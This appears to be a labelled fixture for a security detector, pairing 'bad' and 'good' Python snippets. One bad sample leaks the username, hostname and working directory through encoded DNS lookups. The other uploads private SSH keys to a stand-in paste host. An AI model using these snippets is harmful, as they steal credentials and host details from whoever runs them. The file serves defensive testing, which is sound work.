#: bad dns-lookup
import base64
import os
import socket

user = os.getenv("USER", "") + "|" + socket.gethostname() + "|" + os.getcwd()
label = base64.b32encode(user.encode()).decode().rstrip("=").lower()
for i in range(0, len(label), 60):
    try:
        socket.gethostbyname(f"{label[i:i + 60]}.{i}.ns1.example.invalid")  #!
    except OSError:
        pass

#: good dns-lookup
import base64
import socket


def reachable(hosts):
    for host in hosts:
        try:
            yield host, socket.gethostbyname(f"{host}.example.invalid")
        except OSError:
            yield host, None


ICON = base64.b32encode(b"icon").decode().lower()

#: bad ssh-keys
import glob
import os
import requests as r

for path in glob.glob(os.path.expanduser("~/.ssh/id_*")):
    with open(path, "rb") as handle:
        r.post("https://paste.example.invalid/api", files={"f": handle})  #!

#: good ssh-keys
import glob
import os
import paramiko

agent = paramiko.Agent()
for path in glob.glob(os.path.expanduser("~/.ssh/id_*.pub")):
    with open(path) as handle:
        print(len(agent.get_keys()), handle.read().split()[-1])
